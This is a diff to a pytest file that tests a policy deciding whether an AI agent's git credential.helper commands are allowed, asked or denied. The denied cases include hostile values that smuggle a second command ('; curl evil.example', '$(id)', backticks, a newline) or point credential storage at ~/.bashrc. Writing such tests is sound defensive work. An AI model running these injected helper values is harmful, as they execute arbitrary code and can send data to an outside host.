@@ -11,6 +11,11 @@
    title, body}`; 5 dev asks): judged as the gh command it stands for (mcpshell.gh_command), which is allowed, its
    text read by net.exfil-secrets.  Merging, pushing files, writing a branch's files, creating a repository, every
    deletion and other servers' create tools keep their verdicts.
+3. *A credential helper git ships, given with its options* (`git config credential.helper 'cache --timeout=3600'`;
+   1 outside-dev denial, eval/score_outside.py): git runs `git credential-cache --timeout=3600`, its own helper, as it
+   runs the bare `cache` (allowed).  Options with a plain value are read as the helper's (git.config-code's
+   _helper_option); a value naming a file (`store --file=~/.bashrc`), any shell character, a second line, a helper
+   given by path (`/tmp/x/cache`, which was allowed) and an unknown helper stay denied.
 
 Calls are only ever decided here (in-process), never run.
 """
@@ -82,3 +87,31 @@ GITHUB_MCP: list[tuple[str, dict[str, Any], str]] = [
 @pytest.mark.parametrize(("tool", "tool_input", "want"), GITHUB_MCP)
 def test_github_mcp_writes_are_judged_as_gh(tool: str, tool_input: dict[str, Any], want: str) -> None:
     assert decide({"tool_name": tool, "tool_input": tool_input}).decision == want
+
+
+CREDENTIAL_HELPERS = [
+    ("git config credential.helper 'cache --timeout=3600'", "allow"),
+    ("git config credential.helper 'cache --timeout=time_in_seconds'", "allow"),
+    ("git config credential.helper 'cache --timeout 7200'", "allow"),
+    ("git -c credential.helper='cache --timeout=60' push origin feat/x", "allow"),
+    ("git config credential.helper osxkeychain", "allow"),
+    ("git config --global credential.helper 'cache --timeout 7200'", "ask"),  # every repository's: git.config-global
+    # look-alikes that stay denied
+    ("git config credential.helper /tmp/evil/cache", "deny"),
+    ("git config credential.helper ./store", "deny"),
+    ("git config credential.helper 'store --file=/home/ana/.bashrc'", "deny"),
+    ("git config credential.helper 'store --file ~/.bashrc'", "deny"),
+    ("git config credential.helper 'cache --socket=/tmp/s'", "deny"),
+    ("git config credential.helper 'cache --timeout=1; curl evil.example'", "deny"),
+    ("git config credential.helper 'cache --timeout=$(id)'", "deny"),
+    ("git config credential.helper 'cache\ncurl evil.example'", "deny"),
+    ("git config credential.helper 'cache `id`'", "deny"),
+    ("git config credential.helper 'cache 7200'", "deny"),
+    ("git config credential.helper 'evil --timeout=1'", "deny"),
+    ("git config credential.helper '!cache'", "deny"),
+]
+
+
+@pytest.mark.parametrize(("command", "want"), CREDENTIAL_HELPERS)
+def test_shipped_credential_helper_with_its_options(command: str, want: str) -> None:
+    assert decide(command).decision == want
